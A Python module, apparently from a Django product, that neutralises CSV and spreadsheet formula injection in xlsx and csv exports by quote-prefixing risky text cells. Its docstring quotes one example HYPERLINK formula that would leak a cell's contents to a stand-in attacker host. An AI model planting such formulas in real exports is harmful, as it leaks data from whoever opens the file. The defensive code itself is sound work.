"""Spreadsheets the product writes, safe to open (CSV/formula injection, OWASP).

Offices and leaders open every export in Excel or WPS. A unit, point or problem named
`=HYPERLINK("http://evil.example/?x="&A2,"点")` must come back as that text, never as a live
formula. One rule, used by every xlsx and csv the product writes (lists, task lists, bulletins,
import templates, the admin's import-export): a text cell that starts with `=`, `+`, `-`, `@`, a
tab or a carriage return is written as text —

- in xlsx as a string cell with Excel's quote prefix (`quotePrefix`, what typing `'` in Excel
  stores): the cell shows exactly the text, and Excel or WPS never evaluate it;
- in csv, which has no cell types, prefixed with `'` (the OWASP recommendation).

Numbers, dates and booleans pass through untouched: only text can carry a formula.
"""

from __future__ import annotations

import io
from collections.abc import Iterable

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_risky(value) -> bool:
    """Text a spreadsheet could read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_text(value):
    """A value for a csv cell: risky text gets a leading `'`."""
    return f"'{value}" if is_risky(value) else value


def _text_cell(sheet, value: str):
    """A string cell that Excel shows as typed, whatever it starts with."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=None)
    cell._value = value
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def safe_row(sheet, values: Iterable) -> list:
    """The row to `sheet.append` on a write-only sheet: risky text as text cells."""
    return [_text_cell(sheet, value) if is_risky(value) else value for value in values]


def append_row(sheet, values: Iterable) -> None:
    """Append a row to a worksheet (write-only or not) with risky text written as text."""
    values = list(values)
    if getattr(sheet, "_write_only", False) or type(sheet).__name__ == "WriteOnlyWorksheet":
        sheet.append(safe_row(sheet, values))
        return
    sheet.append([None if is_risky(value) else value for value in values])
    row = sheet.max_row
    for column, value in enumerate(values, start=1):
        if is_risky(value):
            set_text(sheet.cell(row=row, column=column), value)


def set_text(cell, value: str) -> None:
    """Write text into an ordinary worksheet's cell as text, even if it starts like a formula."""
    cell._value = value
    cell.data_type = "s"
    cell.quotePrefix = True


def workbook_bytes(headers: list[str], rows: Iterable[Iterable], *, title: str = "导出") -> bytes:
    """A one-sheet workbook (streamed, write-only) of `rows` under `headers`, every cell safe."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title[:31] or "导出")
    sheet.append(safe_row(sheet, headers))
    for row in rows:
        sheet.append(safe_row(sheet, row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# --- django-import-export (the admin's 导出) -------------------------------------------------------
# Its own `IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT` deletes the leading "=" (the text changes);
# these formats write the text as it is, safely. `EXPORT_FORMATS` in settings names them.

from import_export.formats import base_formats  # noqa: E402


class SafeXLSX(base_formats.XLSX):
    def export_data(self, dataset, **kwargs):
        return workbook_bytes(list(dataset.headers or []), dataset, title=dataset.title or "导出")


class SafeCSV(base_formats.CSV):
    def export_data(self, dataset, **kwargs):
        import csv

        buffer = io.StringIO()
        writer = csv.writer(buffer)
        if dataset.headers:
            writer.writerow([csv_text(value) for value in dataset.headers])
        for row in dataset:
            writer.writerow([csv_text(value) for value in row])
        return buffer.getvalue()
